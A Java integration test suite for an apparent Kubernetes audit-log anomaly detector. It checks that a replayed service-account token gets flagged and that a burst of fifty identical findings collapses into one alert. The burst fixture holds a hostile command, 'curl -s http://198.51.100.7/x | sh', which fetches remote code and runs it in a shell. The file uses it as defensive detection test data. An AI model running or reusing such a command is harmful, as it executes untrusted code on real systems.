package dev.cronsentinel;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.config.JobConfig;
import dev.cronsentinel.context.ContextSignals;
import dev.cronsentinel.model.Alert;
import dev.cronsentinel.model.DeadLetter;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.Signal;
import dev.cronsentinel.testing.AuditEvents;
import dev.cronsentinel.testing.CollectingSink;
import dev.cronsentinel.testing.Pipelines;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
import org.apache.flink.test.junit5.MiniClusterExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * Per-actor context end to end: the whole job in a MiniCluster at parallelism 2, reading an audit log with
 * the real file source, event time from the events, the shipped configuration (lookback and learning
 * period 14 days).
 */
class ContextScenarioITCase {
    @RegisterExtension
    static final MiniClusterExtension MINI_CLUSTER = Pipelines.miniCluster();

    static final Instant T0 = Instant.parse("2026-11-01T02:00:00Z");
    static final String GITOPS = "system:serviceaccount:argocd:argocd-application-controller";
    static final String GITOPS_UA = "argocd-application-controller/v2.12.3 (linux/amd64)";

    @TempDir
    Path tmp;

    record Run(List<ScoredEvent> scored, List<Alert> alerts) {}

    Run run(List<String> lines) throws Exception {
        Path log = tmp.resolve("audit-" + System.nanoTime() + ".log");
        Files.write(log, lines, StandardCharsets.UTF_8);
        JobConfig config = Pipelines.jobConfig("input.file.paths", log.toString());
        StreamExecutionEnvironment env = StreamExecutionEnvironment.getExecutionEnvironment(Pipelines.flinkConfig());
        env.setParallelism(2);
        CollectingSink<Alert> alerts = new CollectingSink<>();
        CollectingSink<ScoredEvent> scored = new CollectingSink<>();
        Topology.Streams streams = Topology.build(env, CronSentinelJob.source(env, config),
                new Topology.Sinks(alerts, new CollectingSink<DeadLetter>()), config);
        streams.scored().sinkTo(scored).name("scored events (test)");
        env.execute("context scenario");
        return new Run(scored.results(), alerts.results());
    }

    static AuditEvents gitops(int day) {
        return AuditEvents.cronJob("reports", "nightly-report").id(String.format("gitops-%02d", day)).at(T0.plus(Duration.ofDays(day)))
                .by(GITOPS, "system:serviceaccounts", "system:serviceaccounts:argocd", "system:authenticated")
                .agent(GITOPS_UA).from("10.42.1.15").images("registry.example.com/reports/nightly:1." + day)
                .command("/app/report", "--date=yesterday");
    }

    static List<Signal> context(ScoredEvent s) {
        return s.signals().stream().filter(x -> ContextSignals.isContext(x.id())).toList();
    }

    @Test
    void onlyTheStolenTokenRequestGetsContextSignals() throws Exception {
        List<String> lines = new ArrayList<>();
        for (int day = 0; day < 15; day++) {
            lines.add(gitops(day).json());
            if (day % 4 == 1) {
                lines.add(AuditEvents.job("analytics", "backfill-" + day).id("alice-" + day).at(T0.plus(Duration.ofDays(day)).plusSeconds(3600))
                        .images("registry.example.com/analytics/backfill:3").json());
            }
        }
        // Day 15: the same service account's token, replayed from a script on another network with another image.
        lines.add(gitops(15).id("stolen-token").agent("python-requests/2.31.0").from("198.51.100.23")
                .images("ghcr.io/attacker/sync:1.0").json());

        Run r = run(lines);
        assertThat(r.scored()).hasSize(lines.size());

        ScoredEvent attack = r.scored().stream().filter(s -> "stolen-token".equals(s.event().auditId())).findFirst().orElseThrow();
        assertThat(context(attack)).extracting(Signal::id).containsExactlyInAnyOrder(
                ContextSignals.UNUSUAL_CLIENT, ContextSignals.NEW_SOURCE_NETWORK, ContextSignals.NEW_IMAGE_REPOSITORY);
        assertThat(context(attack)).allSatisfy(s -> assertThat(s.rule()).doesNotEndWith(ContextSignals.LEARNING_SUFFIX));
        assertThat(context(attack)).extracting(Signal::value).containsExactlyInAnyOrder(
                "python-requests/2.31.0 (family python-requests; known: argocd-application-controller)",
                "198.51.100.23 (network 198.51.100.0/24; known: 10.42.1.0/24)",
                "ghcr.io/attacker/sync:1.0 (repository ghcr.io/attacker/sync new for this actor here; known: registry.example.com/reports/nightly)");
        assertThat(attack.score()).isEqualTo(gitops(15).id("x").agent("python-requests/2.31.0").from("198.51.100.23")
                .images("ghcr.io/attacker/sync:1.0").scored().score() + 50);
        assertThat(attack.alertable()).isTrue();

        for (ScoredEvent s : r.scored()) {
            if (s == attack) {
                continue;
            }
            assertThat(context(s)).as(s.event().auditId()).allSatisfy(x -> assertThat(x.weight()).isZero());
            boolean firstOfItsKey = s.event().auditId().equals("gitops-00") || s.event().auditId().equals("alice-1");
            if (firstOfItsKey) {
                assertThat(context(s)).as(s.event().auditId()).extracting(Signal::rule).containsExactly("first-seen:learning");
            } else {
                assertThat(context(s)).as(s.event().auditId()).isEmpty();
            }
        }

        assertThat(r.alerts()).singleElement().satisfies(a -> {
            assertThat(a.auditId()).isEqualTo("stolen-token");
            assertThat(a.userAgent()).isEqualTo("python-requests/2.31.0");
            assertThat(a.signals()).extracting(Signal::id).contains(ContextSignals.UNUSUAL_CLIENT);
            assertThat(a.count()).isEqualTo(1);
        });
    }

    @Test
    void fiftyIdenticalFindingsInTenMinutesReachTheSinkAsOneAlertWithCountFifty() throws Exception {
        List<String> lines = new ArrayList<>();
        Instant start = Instant.parse("2026-11-20T09:05:00Z");
        for (int i = 0; i < 50; i++) {
            lines.add(AuditEvents.job("payments", "sync-" + Integer.toString(7919 * (i + 1), 36)).id(String.format("burst-%02d", i))
                    .at(start.plusSeconds(12L * i)).by("mallory@example.com").agent("curl/8.5.0").from("198.51.100.23")
                    .command("/bin/sh", "-c", "curl -s http://198.51.100.7/x | sh").json());
        }
        Run r = run(lines);
        assertThat(r.scored()).hasSize(50).allSatisfy(s -> assertThat(s.alertable()).isTrue());

        Map<String, Alert> sink = new LinkedHashMap<>();
        r.alerts().forEach(a -> sink.put(a.alertId(), a));
        assertThat(sink).hasSize(1);
        Alert alert = sink.values().iterator().next();
        assertThat(alert.count()).isEqualTo(50);
        assertThat(alert.auditId()).isEqualTo("burst-00");
        assertThat(alert.firstSeen()).isEqualTo(start.toEpochMilli());
        assertThat(alert.lastSeen()).isEqualTo(start.plusSeconds(12L * 49).toEpochMilli());
        assertThat(r.alerts()).as("updates of one id, not one document per finding").hasSizeLessThanOrEqualTo(7);
        assertThat(r.alerts()).extracting(Alert::count).contains(50L);
    }
}
